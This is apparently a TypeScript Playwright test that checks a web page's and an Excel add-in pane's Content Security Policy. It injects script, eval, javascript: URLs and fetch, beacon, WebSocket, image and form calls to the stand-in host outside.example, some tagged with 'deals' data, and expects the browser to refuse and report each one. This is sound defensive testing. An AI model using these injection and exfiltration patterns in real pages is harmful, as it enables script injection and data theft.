// What gets into the page in spite of everything can neither run nor call: the browser refuses, and says so.

import type { Frame, Page } from "playwright-core";
import { openInExcel } from "../excel-host/frame";
import { startBrowser } from "./browser";

jest.setTimeout(300_000);

declare const window: Window & { hacked?: boolean; refusal?: Promise<string> };

/** What is tried, by the directive that refuses it; each runs in the page. */
const tries: readonly (readonly [string, () => void])[] = [
  ["script-src-elem", () => { append("script", { textContent: "window.hacked = true" }); }],
  ["script-src-elem", () => { append("script", { src: "https://outside.example/script.js" }); }],
  ["script-src-elem", () => { append("script", { src: "data:text/javascript,window.hacked=true" }); }],
  ["script-src-attr", () => { append("button", {}).setAttribute("onclick", "window.hacked = true"); }],
  ["script-src-elem", () => { (append("a", { href: "javascript:window.hacked=true" }) as HTMLElement).click(); }],
  ["script-src", () => { setTimeout(() => { try { (0, eval)("window.hacked = true"); } catch { /* as it should be */ } }); }],
  ["script-src", () => { setTimeout(() => { try { new Function("window.hacked = true")(); } catch { /* as it should be */ } }); }],
  ["connect-src", () => { void fetch("https://outside.example/?deals=1").catch(() => {}); }],
  ["connect-src", () => { navigator.sendBeacon("https://outside.example/", "deals"); }],
  ["connect-src", () => { try { new WebSocket("wss://outside.example/"); } catch { /* as it should be */ } }],
  ["img-src", () => { append("img", { src: "https://outside.example/seen.png?deals=1" }); }],
  ["style-src-elem", () => { append("link", { rel: "stylesheet", href: "https://outside.example/style.css" }); }],
  ["object-src", () => { append("object", { data: "https://outside.example/" }); }],
  ["media-src", () => { append("video", { src: "https://outside.example/film.mp4" }); }],
  ["base-uri", () => { append("base", { href: "https://outside.example/" }); }],
  ["worker-src", () => { try { new Worker(URL.createObjectURL(new Blob(["fetch('https://outside.example/')"]))); } catch { /* as it should be */ } }],
];

/** To these Chromium opens a connection before it looks at the policy; nothing is sent on it. */
const navigations: typeof tries = [
  ["frame-src", () => { append("iframe", { src: "https://outside.example/" }); }],
  ["form-action", () => { (append("form", { action: "https://outside.example/", method: "post" }) as HTMLFormElement).submit(); }],
];

declare function append(tag: string, properties: object): HTMLElement;

let browser: Awaited<ReturnType<typeof startBrowser>>;
beforeAll(async () => { browser = await startBrowser(); });
afterAll(() => browser.close());

it("refuses and reports what is put into the page", async () => {
  const { page, close } = await browser.open();
  await checkAll(page, tries);
  expect(browser.elsewhere).toEqual([]);
  await checkAll(page, navigations);
  await close();
});

it("refuses and reports what is put into the pane in Excel", async () => {
  const excel = await openInExcel(await browser.newContext());
  await excel.pane().getByRole("textbox").first().waitFor();
  const before = browser.elsewhere.length;
  await checkAll(excel.pane(), tries);
  expect(browser.elsewhere.slice(before)).toEqual([]);
  await checkAll(excel.pane(), navigations);
  await excel.page.context().close();
});

async function checkAll(frame: Page | Frame, all: typeof tries): Promise<void> {
  await frame.evaluate(() => Object.assign(window, {
    append: (tag: string, properties: object) => document.body.appendChild(Object.assign(document.createElement(tag), properties)),
  }));
  const found: (readonly [string, string])[] = [];
  for (const [, attempt] of all) {
    await frame.evaluate(() => Object.assign(window, {
      refusal: new Promise((done) => addEventListener("securitypolicyviolation", ({ effectiveDirective, disposition }) => done(`${effectiveDirective} ${disposition}`), { once: true })),
    }) && undefined);
    await frame.evaluate(attempt);
    found.push([attempt.toString(), await frame.evaluate(() => window.refusal!)]);
  }
  expect(found).toEqual(all.map(([directive, attempt]) => [attempt.toString(), `${directive} enforce`]));
  expect(await frame.evaluate(() => window.hacked)).toBeUndefined();
}
